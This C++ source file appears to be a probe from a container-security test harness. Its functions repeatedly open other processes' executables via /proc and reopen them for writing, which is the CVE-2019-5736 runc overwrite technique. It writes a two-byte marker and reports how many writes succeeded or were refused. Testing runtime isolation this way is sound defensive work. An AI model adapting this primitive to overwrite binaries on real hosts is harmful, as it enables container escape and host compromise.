#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <map>
#include <set>

#include "attacker.h"
#include "processes.h"

namespace attacker {

namespace {

struct Held {
  std::map<std::string, int> programs;  // by identity
  std::set<std::string> refusals;
  std::string own = own_program();
  long written = 0;
};

void take_hold(Held& held) {
  for (const pid_t pid : list_processes()) {
    const std::string path = "/proc/" + std::to_string(pid) + "/exe";
    const std::string identity = identity_of(path);
    if (identity.empty() || identity == held.own || held.programs.contains(identity)) continue;
    const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd >= 0) held.programs[identity] = fd;
  }
}

// Opened again, for writing, through the descriptor: CVE-2019-5736.
void write_into(Held& held) {
  for (const auto& [identity, fd] : held.programs) {
    char target[512];
    const std::string name = "/proc/self/fd/" + std::to_string(fd);
    const ssize_t length = ::readlink(name.c_str(), target, sizeof target);
    const std::string text(target, length < 0 ? 0 : static_cast<size_t>(length));
    // The image's own programs are the container's to write.
    if (text.find("ctr") == std::string::npos) continue;
    const int again = ::open(name.c_str(), O_WRONLY | O_CLOEXEC);
    if (again >= 0) {
      ++held.written;
      (void)!::write(again, "#!", 2);
      ::close(again);
    } else {
      held.refusals.insert(::strerrorname_np(errno));
    }
  }
}

}  // namespace

Json overwrite(const Words&) {
  Held held;
  say_ready();
  while (!is_over()) {
    take_hold(held);
    write_into(held);
  }
  return {{"programs", held.programs.size()}, {"written", held.written}, {"refusals", held.refusals}};
}

}  // namespace attacker
